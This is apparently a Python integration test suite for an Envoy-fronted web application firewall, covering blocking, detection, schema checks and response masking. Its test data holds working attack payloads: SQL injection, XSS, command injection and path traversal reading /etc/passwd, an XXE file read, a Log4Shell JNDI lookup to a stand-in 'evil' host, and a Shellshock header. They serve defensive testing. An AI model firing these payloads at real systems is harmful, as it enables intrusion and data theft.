"""The WAF through a real gateway: a control plane, the WAF service (its rules over xDS), an
Envoy asking it about each inspected request, and the echo backend that must never see what
was refused."""

from __future__ import annotations

import json
import subprocess
import sys
import urllib.parse
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

from controlplane.echo import EchoServer
from tests.harness import EnvoyProcess, Response, free_port, raw_request, stop_process
from tests.xds_harness import REPO, ControlPlaneProcess, http_get, start_envoy, wait_for

pytestmark = pytest.mark.envoy

SPEC = """
openapi: 3.0.3
info: {title: shop, version: "1"}
servers: [{url: /shop}]
paths:
  /search:
    get:
      operationId: search
      parameters:
        - {name: q, in: query, schema: {type: string, maxLength: 200}}
        - {name: file, in: query, schema: {type: string}}
        - {name: limit, in: query, schema: {type: integer, minimum: 1, maximum: 100}}
        - {name: sort, in: query, schema: {type: string, enum: [name, price]}}
      responses: {"200": {description: ok}}
  /items:
    post:
      operationId: createItem
      requestBody:
        content:
          application/json:
            schema: {$ref: "#/components/schemas/Item"}
          application/x-www-form-urlencoded:
            schema: {type: object}
      responses: {"200": {description: ok}}
  /pages:
    post:
      operationId: updatePage
      requestBody: {content: {application/json: {schema: {type: object}}}}
      responses: {"200": {description: ok}}
  /import:
    post:
      operationId: importXml
      requestBody: {content: {application/xml: {schema: {type: string}}}}
      responses: {"200": {description: ok}}
  /notes:
    post:
      operationId: addNote
      requestBody: {content: {application/json: {schema: {type: object}}}}
      responses: {"200": {description: ok}}
  /health:
    get: {operationId: health, responses: {"200": {description: ok}}}
  /pay:
    post:
      operationId: pay
      requestBody: {content: {application/json: {schema: {type: object}}}}
      responses:
        "200":
          description: ok
          content:
            application/json:
              schema:
                type: object
                properties:
                  method: {type: string, x-gateway-mask: true}
components:
  schemas:
    Item:
      type: object
      required: [name]
      properties:
        name: {type: string}
        notes: {type: string}
        price: {type: number, minimum: 0}
        tags: {type: array, items: {type: string}}
        filter: {type: string, enum: ["' OR 1=1 --", "none"]}
"""


@dataclass
class WafService:
    workdir: Path
    xds: str
    port: int = field(default_factory=free_port)
    mask_port: int = field(default_factory=free_port)
    admin_port: int = field(default_factory=free_port)
    proc: subprocess.Popen[bytes] | None = None

    @property
    def log_path(self) -> Path:
        return self.workdir / f"waf-{self.port}.log"

    def start(self) -> WafService:
        with self.log_path.open("ab") as log:
            self.proc = subprocess.Popen(
                [
                    *(sys.executable, "-m", "controlplane", "waf", "--listen", f"127.0.0.1:{self.port}"),
                    *("--mask-listen", f"127.0.0.1:{self.mask_port}"),
                    *("--xds", self.xds, "--insecure", "--admin-port", str(self.admin_port)),
                ],
                stdout=log,
                stderr=subprocess.STDOUT,
                cwd=REPO,
            )
        wait_for(lambda: http_get(self.admin_port, "/ready")[0] == 200, 30, "the WAF service's rules")
        return self

    def logs(self) -> str:
        return self.log_path.read_text()

    def findings(self) -> list[dict[str, Any]]:
        out = []
        for line in self.logs().splitlines():
            if "controlplane.waf.findings" in line:
                out.append(json.loads(line.split("controlplane.waf.findings: ", 1)[1]))
        return out

    def requests(self) -> float:
        _code, text = http_get(self.admin_port, "/metrics")
        return sum(
            float(line.rsplit(" ", 1)[1])
            for line in text.decode().splitlines()
            if line.startswith("waf_requests_total{")
        )

    def stop(self) -> None:
        stop_process(self.proc)


def policy(gateway: int, internal: int, backend: int, waf: int, mask: int) -> str:
    return f"""
apiVersion: controlplane.dev/v1
kind: GatewayPolicy
listeners:
  - {{name: public, address: 127.0.0.1, port: {gateway}}}
  - {{name: internal, address: 127.0.0.1, port: {internal}, waf: {{mode: detect}}}}
upstreams: [{{name: backend, endpoints: ["127.0.0.1:{backend}"]}}]
waf:
  service: {{endpoints: ["127.0.0.1:{waf}"], maskEndpoints: ["127.0.0.1:{mask}"], timeout: 2s}}
  mode: prevent
  maxBodyBytes: 4096
  maxResponseBytes: 4194304
apis:
  - name: shop
    spec: spec.yaml
    upstream: backend
    operations:
      updatePage: {{waf: {{exclude: {{locations: ["body:/html"], families: [xss]}}}}}}
      addNote: {{waf: {{mode: detect}}}}
      health: {{waf: {{mode: "off"}}}}
      importXml: {{waf: {{mode: prevent}}}}
      pay: {{sensitive: true, maskFields: [x-account-ssn], waf: {{mode: detect}}}}
"""


@dataclass
class Setup:
    gateway_port: int
    internal_port: int
    echo: EchoServer
    waf: WafService
    plane: ControlPlaneProcess
    envoy: EnvoyProcess

    def send(
        self,
        method: str,
        target: str,
        body: bytes = b"",
        headers: dict[str, str] | None = None,
        port: int | None = None,
    ) -> Response:
        lines = [f"{method} {target} HTTP/1.1", "Host: shop.test", "Connection: close"]
        lines += [f"{k}: {v}" for k, v in (headers or {}).items()]
        if body or method == "POST":
            lines.append(f"Content-Length: {len(body)}")
        return raw_request(port or self.gateway_port, ("\r\n".join(lines) + "\r\n\r\n").encode() + body)

    @classmethod
    def start(
        cls,
        workdir: Path,
        echo: EchoServer,
        gateway_port: int,
        waf_port: int,
        mask_port: int = 0,
        internal_port: int = 0,
    ) -> Setup:
        """A control plane serving ``workdir/config``, the WAF service it configures, an Envoy."""
        plane = ControlPlaneProcess([workdir / "config"], workdir).start()
        xds = f"127.0.0.1:{plane.xds_port}"
        waf = WafService(workdir, xds, port=waf_port, mask_port=mask_port or free_port()).start()
        return cls(gateway_port, internal_port, echo, waf, plane, start_envoy(workdir, plane))

    def stop(self) -> None:
        self.envoy.stop()
        self.waf.stop()
        self.plane.stop()
        self.echo.shutdown()


@pytest.fixture(scope="module")
def setup(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Setup]:
    workdir = tmp_path_factory.mktemp("waf")
    echo = EchoServer().start()
    config = workdir / "config"
    config.mkdir()
    gateway_port, internal_port, waf_port, mask_port = free_port(), free_port(), free_port(), free_port()
    (config / "spec.yaml").write_text(SPEC)
    (config / "policy.yaml").write_text(policy(gateway_port, internal_port, echo.port, waf_port, mask_port))
    s = Setup.start(workdir, echo, gateway_port, waf_port, mask_port, internal_port)
    wait_for(lambda: s.send("GET", "/shop/search?q=shoes").status == 200, 20, "the gateway")
    yield s
    s.stop()


def q(value: str) -> str:
    return urllib.parse.quote(value, safe="")


ATTACKS = [
    ("sqli", "GET", "/shop/search?q=" + q("1' OR '1'='1' --"), b"", {}),
    ("sqli-double-encoded", "GET", "/shop/search?q=" + q(q("' UNION SELECT password FROM users--")), b"", {}),
    ("xss-json", "POST", "/shop/items", b'{"name": "<script>alert(1)</script>"}', {"Content-Type": "application/json"}),
    (
        "xss-json-array",
        "POST",
        "/shop/items",
        b'{"name": "x", "tags": ["ok", "<svg onload=alert(1)>"]}',
        {"Content-Type": "application/json"},
    ),
    (
        "xss-json-escaped",
        "POST",
        "/shop/items",
        b'{"name": "\\u003cimg src=x onerror=alert(1)\\u003e"}',
        {"Content-Type": "application/json"},
    ),
    (
        "cmdi-form",
        "POST",
        "/shop/items",
        b"name=x%3B%20cat%20%2Fetc%2Fpasswd",
        {"Content-Type": "application/x-www-form-urlencoded"},
    ),
    ("traversal", "GET", "/shop/search?file=" + q("../../../etc/passwd"), b"", {}),
    (
        "xxe",
        "POST",
        "/shop/import",
        b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
        {"Content-Type": "application/xml"},
    ),
    ("log4shell-header", "GET", "/shop/search?q=x", b"", {"User-Agent": "${${lower:j}ndi:ldap://evil/a}"}),
    # (not in Referer: Envoy drops a Referer that is not a URL before any filter sees it)
    ("shellshock", "GET", "/shop/search?q=x", b"", {"X-Debug-Info": "() { :; }; /bin/bash -c id"}),
]


@pytest.mark.parametrize(("name", "method", "target", "body", "headers"), ATTACKS, ids=[a[0] for a in ATTACKS])
def test_prevent_refuses_every_family(
    setup: Setup, name: str, method: str, target: str, body: bytes, headers: dict[str, str]
) -> None:
    before = len(setup.echo.received)
    resp = setup.send(method, target, body, headers)
    assert resp.status == 403, (name, resp.status, resp.body[:200])
    answer = resp.json()
    assert answer["message"].startswith("refused: the request looks like an attack") and answer["request_id"]
    assert b"passwd" not in resp.body and b"script" not in resp.body  # no echo of the payload
    assert len(setup.echo.received) == before
    logged = [f for f in setup.waf.findings() if f["request_id"] == answer["request_id"]]
    assert logged and all(f["verdict"] == "refused" and f["operation"] for f in logged), logged


def test_benign_requests_pass(setup: Setup) -> None:
    for method, target, body, headers in [
        ("GET", "/shop/search?q=" + q("O'Brien's select of union jackets"), b"", {}),
        ("POST", "/shop/items", b'{"name": "Tom & Jerry", "notes": "size < 10"}', {"Content-Type": "application/json"}),
        ("POST", "/shop/items", b"name=caf%C3%A9+au+lait", {"Content-Type": "application/x-www-form-urlencoded"}),
    ]:
        resp = setup.send(method, target, body, headers)
        assert resp.status == 200, (target, body, resp.body[:300])


def test_detect_mode_logs_and_lets_through(setup: Setup) -> None:
    text = "Dear team, " + "please ship it soon. " * 10 + "<script>alert(1)</script>" + " thanks" * 10
    body = json.dumps({"text": text}).encode()
    resp = setup.send("POST", "/shop/notes", body, {"Content-Type": "application/json"})
    assert resp.status == 200
    request_id = resp.header("x-request-id")
    found = wait_for(
        lambda: [f for f in setup.waf.findings() if f["request_id"] == request_id], 5, "the detection in the log"
    )
    assert found[0]["verdict"] == "detected" and found[0]["family"] == "xss" and found[0]["operation"] == "shop.addNote"
    assert all(len(f["snippet"]) <= 64 for f in found) and text not in json.dumps(found)  # a snippet, not the payload


def test_a_listener_sets_the_mode_of_what_it_serves(setup: Setup) -> None:
    """The internal listener (``listeners[].waf.mode: detect``) logs what the public one
    refuses; an operation's own mode (importXml: prevent) wins over its listener's."""
    attack = "/shop/search?q=" + q("1' OR '1'='1' --")
    assert setup.send("GET", attack).status == 403
    passed = setup.send("GET", attack, port=setup.internal_port)
    assert passed.status == 200, passed.body[:300]
    request_id = passed.header("x-request-id")
    found = wait_for(
        lambda: [f for f in setup.waf.findings() if f["request_id"] == request_id], 5, "the detection in the log"
    )
    assert {f["verdict"] for f in found} == {"detected"} and {f["family"] for f in found} == {"sqli"}
    xxe = b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'
    refused = setup.send("POST", "/shop/import", xxe, {"Content-Type": "application/xml"}, port=setup.internal_port)
    assert refused.status == 403, refused.body[:300]


def test_exclusions_let_a_rich_text_field_carry_html(setup: Setup) -> None:
    page = {"title": "News", "html": "<p>Hello <script src=/app.js></script></p>"}
    ok = setup.send("POST", "/shop/pages", json.dumps(page).encode(), {"Content-Type": "application/json"})
    assert ok.status == 200, ok.body
    # the exclusion is that field and that family only
    other = {"title": "<script>alert(1)</script>", "html": "<p>x</p>"}
    assert (
        setup.send("POST", "/shop/pages", json.dumps(other).encode(), {"Content-Type": "application/json"}).status
        == 200
    )
    sqli = {"title": "1' OR '1'='1' --", "html": "<p>x</p>"}
    assert (
        setup.send("POST", "/shop/pages", json.dumps(sqli).encode(), {"Content-Type": "application/json"}).status == 403
    )


def test_a_body_padded_past_the_limit_is_refused_whole(setup: Setup) -> None:
    before = len(setup.echo.received)
    padded = b'{"pad": "' + b"a" * 8000 + b'", "name": "<script>alert(1)</script>"}'
    resp = setup.send("POST", "/shop/items", padded, {"Content-Type": "application/json"})
    assert resp.status == 413
    assert len(setup.echo.received) == before


def test_an_operation_with_the_waf_off_is_never_sent_to_it(setup: Setup) -> None:
    before = setup.waf.requests()
    assert setup.send("GET", "/shop/health?x=" + q("' OR 1=1--")).status == 200
    assert setup.send("GET", "/shop/search?q=ok").status == 200  # a positive signal that counting works
    wait_for(lambda: setup.waf.requests() == before + 1, 5, "the one inspected request counted")


def test_failure_modes(setup: Setup) -> None:
    """Prevent fails closed (503), detect fails open (the request goes on)."""
    setup.waf.stop()
    try:
        closed = setup.send("GET", "/shop/search?q=shoes")
        assert closed.status == 503 and closed.header("retry-after") == "1", closed.body
        assert closed.json()["message"] == "the request cannot be inspected now; try again shortly"
        opened = setup.send("POST", "/shop/notes", b'{"text": "hi"}', {"Content-Type": "application/json"})
        assert opened.status == 200
        # the same operation on the internal listener (detect there): open
        assert setup.send("GET", "/shop/search?q=shoes", port=setup.internal_port).status == 200
    finally:
        setup.waf.proc = None
        setup.waf.start()
    wait_for(lambda: setup.send("GET", "/shop/search?q=shoes").status == 200, 10, "the service back")


# -- the positive model: what the OpenAPI description allows -----------------------------------


@pytest.mark.parametrize(
    ("target", "body", "headers", "status", "message"),
    [
        ("/shop/search?limit=abc", b"", {}, 400, "the query parameter 'limit' must be an integer"),
        ("/shop/search?limit=1000", b"", {}, 400, "the query parameter 'limit' must be at most 100"),
        ("/shop/search?sort=cost", b"", {}, 400, "the query parameter 'sort' must be one of name, price"),
        ("/shop/items", b'{"name": "x", "price": -1}', {"Content-Type": "application/json"}, 400, "body at /price:"),
        ("/shop/items", b'{"price": 3}', {"Content-Type": "application/json"}, 400, "body at /: must contain ['name']"),
        (
            "/shop/items",
            b'{"name": "x", "name": "<script>alert(1)</script>"}',
            {"Content-Type": "application/json"},
            400,
            "the body names the member 'name' twice in one object",
        ),
        (
            "/shop/items",
            b"<item/>",
            {"Content-Type": "application/xml"},
            415,
            "Content-Type 'application/xml' is not accepted",
        ),
        ("/shop/search?q=x", b"x=1", {"Content-Type": "text/plain"}, 415, "this operation takes no request body"),
    ],
    ids=["integer", "maximum", "enum", "schema-minimum", "schema-required", "duplicate", "media-type", "no-body"],
)
def test_requests_outside_the_description_are_refused_naming_why(
    setup: Setup, target: str, body: bytes, headers: dict[str, str], status: int, message: str
) -> None:
    before = len(setup.echo.received)
    method = "GET" if target.startswith("/shop/search") else "POST"
    resp = setup.send(method, target, body, headers)
    assert resp.status == status, (resp.status, resp.body[:300])
    assert message in resp.json()["message"], resp.json()
    assert len(setup.echo.received) == before


def test_a_value_the_schema_constrains_is_not_inspected(setup: Setup) -> None:
    """The description allows exactly this value (an enum member that looks like SQL): the
    detectors skip it; the same text in a free-text field is refused."""
    ok = setup.send(
        "POST", "/shop/items", b'{"name": "x", "filter": "\' OR 1=1 --"}', {"Content-Type": "application/json"}
    )
    assert ok.status == 200, ok.body
    refused = setup.send("POST", "/shop/items", b'{"name": "\' OR 1=1 --"}', {"Content-Type": "application/json"})
    assert refused.status == 403


# -- masking responses ---------------------------------------------------------------------------


def test_card_numbers_and_named_fields_are_masked_in_responses(setup: Setup) -> None:
    """The echo backend answers with what it received: card numbers in any spelling (spaced,
    dashed, bare, Luhn-valid only), a field the policy names and one the response schema marks."""
    body = json.dumps(
        {
            "card": "4111 1111 1111 1111",
            "other": "5500-0000-0000-0004",
            "bare": "378282246310005",
            "not_a_card": "4111 1111 1111 1112",
            "order": "1234567890123",
        }
    ).encode()
    headers = {"Content-Type": "application/json", "X-Account-Ssn": "123-45-6789", "Accept-Encoding": "gzip"}
    resp = setup.send("POST", "/shop/pay", body, headers)
    assert resp.status == 200, resp.body[:300]
    seen = resp.json()
    assert "4111 1111 1111 1111" not in resp.body.decode() and "**** **** **** 1111" in seen["body"]
    assert "****-****-****-0004" in seen["body"] and "***********0005" in seen["body"]
    assert "4111 1111 1111 1112" in seen["body"]  # fails the Luhn check: not a card number
    assert "1234567890123" in seen["body"]
    assert seen["headers"]["x-account-ssn"] == "****"  # the policy's field
    assert seen["method"] == "****"  # the schema's x-gateway-mask field
    assert "accept-encoding" not in seen["headers"]  # the backend was asked for an uncompressed answer


def test_a_response_that_cannot_be_read_is_not_passed_unmasked(setup: Setup) -> None:
    """A backend that says gzip but sends something else: refused (502), never passed."""
    resp = setup.send(
        "POST",
        "/shop/pay",
        b'{"card": "4111111111111111"}',
        {"Content-Type": "application/json", "X-Echo-Response-Header": "Content-Encoding: gzip"},
    )
    assert resp.status == 502, resp.body[:300]
    assert b"4111111111111111" not in resp.body


def test_an_operation_that_is_not_sensitive_is_not_masked(setup: Setup) -> None:
    resp = setup.send("POST", "/shop/notes", b'{"text": "4111 1111 1111 1111"}', {"Content-Type": "application/json"})
    assert resp.status == 200 and "4111 1111 1111 1111" in resp.json()["body"]


def test_a_chunked_response_is_masked_whole(setup: Setup) -> None:
    """The backend streams its answer in 7-byte chunks (no Content-Length): a card number
    split across chunks is still found, since the whole response is collected first."""
    body = json.dumps({"card": "4111 1111 1111 1111", "note": "x" * 300}).encode()
    headers = {"Content-Type": "application/json", "X-Echo-Chunk-Bytes": "7"}
    resp = setup.send("POST", "/shop/pay", body, headers)
    assert resp.status == 200, resp.body[:300]
    assert "4111 1111 1111 1111" not in resp.body.decode() and "**** **** **** 1111" in resp.json()["body"]


def test_a_response_far_past_envoys_buffers_is_masked(setup: Setup) -> None:
    """3 MB streamed in 4 KB chunks, and 200 KB with a Content-Length: Envoy's connection
    buffers are 32 KiB, so the service collects the response, not Envoy."""
    for pad, chunk in ((3_000_000, "4096"), (200_000, "0")):
        body = json.dumps({"card": "4111 1111 1111 1111"}).encode()
        headers = {"Content-Type": "application/json", "X-Echo-Chunk-Bytes": chunk, "X-Echo-Pad-Bytes": str(pad)}
        resp = setup.send("POST", "/shop/pay", body, headers)
        assert resp.status == 200, (pad, resp.status, resp.body[:300])
        seen = resp.json()
        assert len(seen["pad"]) == pad and "**** **** **** 1111" in seen["body"]
        assert b"4111 1111 1111 1111" not in resp.body


def test_a_response_past_its_limit_is_refused_not_sent_in_part(setup: Setup) -> None:
    """Past ``waf.maxResponseBytes`` (4 MiB here) the client gets 502, and not a byte of it."""
    body = json.dumps({"card": "4111 1111 1111 1111"}).encode()
    headers = {"Content-Type": "application/json", "X-Echo-Chunk-Bytes": "65536", "X-Echo-Pad-Bytes": "5000000"}
    resp = setup.send("POST", "/shop/pay", body, headers)
    assert resp.status == 502, (resp.status, resp.body[:300])
    assert b"ppp" not in resp.body and b"4111" not in resp.body


def test_a_slowly_streamed_response_is_masked(setup: Setup) -> None:
    """Chunks 350 ms apart for longer than the service's timeout (2 s): the timeout bounds
    each answer of the service, not how long the backend takes to send."""
    body = json.dumps({"card": "4111 1111 1111 1111"}).encode()
    headers = {"Content-Type": "application/json", "X-Echo-Chunk-Bytes": "100", "X-Echo-Chunk-Delay-Ms": "350"}
    resp = setup.send("POST", "/shop/pay", body, headers)
    assert resp.status == 200, resp.body[:300]
    assert "**** **** **** 1111" in resp.json()["body"]


def test_status_shows_what_the_waf_does_and_whether_its_service_has_the_rules(setup: Setup) -> None:
    out = subprocess.run(
        [sys.executable, "-m", "controlplane", "status", "--server", f"127.0.0.1:{setup.plane.admin_port}"],
        capture_output=True,
        text=True,
        cwd=REPO,
        timeout=30,
    )
    waf = [line for line in out.stdout.splitlines() if line.startswith("waf: ")]
    assert len(waf) == 1, out.stdout
    # 7 operations on 2 listeners: health off on both; addNote and pay detect on both, and
    # search, createItem and updatePage on the internal one (its mode); importXml prevent on both
    assert f"service at 127.0.0.1:{setup.waf.port}" in waf[0]
    assert "routes: 5 prevent, 7 detect, 2 off; 7 fail open, 2 masked" in waf[0], waf[0]
    assert waf[0].endswith("services with these rules: 1 of 1 connected"), waf[0]
    header = out.stdout.splitlines()[0].split()
    assert header[-2:] == ["SVC", "STATE"]


def test_a_client_cannot_pose_as_the_route_or_pass_headers_the_check_never_saw(setup: Setup) -> None:
    """``x-waf-route`` tells the service the operation and mode, and Envoy sets it on the check
    from the route: a client's copy claiming detect mode and every family excluded changes
    nothing, and neither it nor a forged ``x-envoy-auth-partial-body`` (which the check only
    sees as Envoy's own) reaches the backend uninspected."""
    forged = {
        "X-Waf-Route": "shop.health\tdetect\tquery:q\tsqli,xss,cmdi,traversal,xxe,exploit,protocol",
        "X-Envoy-Auth-Partial-Body": "<script>alert(1)</script>",
    }
    refused = setup.send("GET", "/shop/search?q=" + q("1' OR '1'='1' --"), headers=forged)
    assert refused.status == 403, refused.body[:300]
    passed = setup.send("GET", "/shop/search?q=shoes", headers=forged)
    assert passed.status == 200, passed.body[:300]
    seen = passed.json()["headers"]
    assert "x-waf-route" not in seen and "x-envoy-auth-partial-body" not in seen, seen


RULES_POLICY = """
apiVersion: controlplane.dev/v1
kind: GatewayPolicy
listeners: [{{name: public, address: 127.0.0.1, port: {gateway}}}]
upstreams: [{{name: backend, endpoints: ["127.0.0.1:{backend}"]}}]
waf:
  service: {{endpoints: ["127.0.0.1:{waf}"], timeout: 2s}}
  rulesFile: rules.yaml
apis: [{{name: shop, spec: spec.yaml, upstream: backend}}]
"""

NEXT_SHELL = """
  - id: exploit.next-shell
    family: exploit
    view: lower
    description: the next Log4Shell, known since this morning
    pattern: |-
      \\$\\{nextshell:
"""


def test_a_new_signature_is_a_rules_file_change_served_hot(tmp_path: Path) -> None:
    """The policy names its own rule file: a rule added to it reaches the running WAF service
    (no restart, no release) and refuses what passed a moment before; a broken rule file is
    an error that leaves the last good rules serving."""
    echo = EchoServer().start()
    config = tmp_path / "config"
    config.mkdir()
    gateway_port, waf_port = free_port(), free_port()
    rules = config / "rules.yaml"
    rules.write_text((REPO / "controlplane/waf/rules.yaml").read_text().replace('version: "', 'version: "local-'))
    (config / "spec.yaml").write_text(SPEC)
    (config / "policy.yaml").write_text(RULES_POLICY.format(gateway=gateway_port, backend=echo.port, waf=waf_port))
    s = Setup.start(tmp_path, echo, gateway_port, waf_port)
    waf, plane = s.waf, s.plane
    try:
        novel = "/shop/search?q=" + q("${nextshell:run(id)}")
        wait_for(lambda: s.send("GET", "/shop/search?q=shoes").status == 200, 20, "the gateway")
        assert s.send("GET", novel).status == 200  # nothing knows it yet
        pid = waf.proc.pid if waf.proc else None
        rules.write_text(rules.read_text().replace("\nrules:\n", "\nrules:\n" + NEXT_SHELL.lstrip("\n"), 1))
        wait_for(lambda: s.send("GET", novel).status == 403, 15, "the new rule in force")
        assert waf.proc is not None and waf.proc.pid == pid  # the same process: no restart
        found = [f for f in waf.findings() if f["rule"] == "exploit.next-shell"]
        assert found and found[-1]["verdict"] == "refused"
        # a broken rule: the compile is rejected, the rules in force stay
        rules.write_text(rules.read_text().replace("\\$\\{nextshell:", "(unclosed"))
        wait_for(lambda: not json.loads(http_get(plane.admin_port, "/compile")[1])["ok"], 15, "the rejection")
        errors = json.loads(http_get(plane.admin_port, "/compile")[1])["errors"]
        assert any("exploit.next-shell" in e and "/waf/rulesFile" in e for e in errors), errors
        assert s.send("GET", novel).status == 403
        assert s.send("GET", "/shop/search?q=shoes").status == 200
    finally:
        s.stop()


def test_a_chunked_request_body_is_inspected_whole_or_refused(setup: Setup) -> None:
    """A client that sends its body chunked (no Content-Length) gets the same inspection, and
    padding chunked past the body limit is refused (413), not inspected in part."""

    def chunked(body: bytes, size: int) -> bytes:
        head = b"POST /shop/items HTTP/1.1\r\nHost: shop.test\r\nConnection: close\r\n"
        head += b"Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n"
        parts = [body[i : i + size] for i in range(0, len(body), size)]
        return head + b"".join(b"%x\r\n%s\r\n" % (len(p), p) for p in parts) + b"0\r\n\r\n"

    before = len(setup.echo.received)
    attack = b'{"name": "x", "notes": "<script>alert(1)</script>"}'
    assert raw_request(setup.gateway_port, chunked(attack, 5)).status == 403
    padded = b'{"pad": "' + b"a" * 8000 + b'", "name": "<script>alert(1)</script>"}'
    assert raw_request(setup.gateway_port, chunked(padded, 1000)).status == 413
    assert len(setup.echo.received) == before
    assert raw_request(setup.gateway_port, chunked(b'{"name": "x", "notes": "fine"}', 5)).status == 200


def test_the_access_log_carries_the_verdict(setup: Setup) -> None:
    """Envoy's access log line of a refused and of a detected request names what the WAF found
    (the service's log has the details under the same request id); a clean one has nothing."""
    refused = setup.send("GET", "/shop/search?q=" + q("1' OR '1'='1' --"))
    detected = setup.send(
        "POST", "/shop/notes", b'{"text": "<script>alert(1)</script>"}', {"Content-Type": "application/json"}
    )
    clean = setup.send("GET", "/shop/search?q=shoes")
    ids = {r.header("x-request-id"): r for r in (refused, detected, clean)}

    def lines() -> dict[str, dict[str, Any]]:
        out = {}
        for line in setup.envoy.stdout_path.read_text().splitlines():
            if line.startswith("{"):
                entry = json.loads(line)
                if entry.get("request_id") in ids:
                    out[entry["request_id"]] = entry
        return out

    def all_three() -> dict[str, dict[str, Any]] | None:
        found = lines()
        return found if len(found) == 3 else None

    logged = wait_for(all_three, 10, "the three access log lines")
    assert logged[refused.header("x-request-id")]["waf"].startswith("refused: sqli/")
    assert logged[detected.header("x-request-id")]["waf"].startswith("detected: xss/")
    assert logged[clean.header("x-request-id")]["waf"] is None
